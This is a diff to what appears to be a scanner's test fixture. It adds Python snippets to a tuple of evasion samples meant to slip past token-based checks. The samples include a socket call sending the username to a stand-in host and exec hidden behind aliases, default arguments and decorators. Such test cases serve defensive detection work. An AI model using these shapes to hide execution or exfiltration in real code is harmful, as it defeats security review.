@@ -98,6 +98,8 @@ EVASIONS = (
     "import socket, getpass\ns = socket.create_connection(('x.invalid', 80))\n"
     "s.sendall(getpass.getuser().encode())\n",
     "import base64\nrun = globals()['exec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
+    "import base64\ndef f(x=exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n",
+    "import zlib\n@exec\n@zlib.decompress\nclass C:\n    pass\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string)."""
 
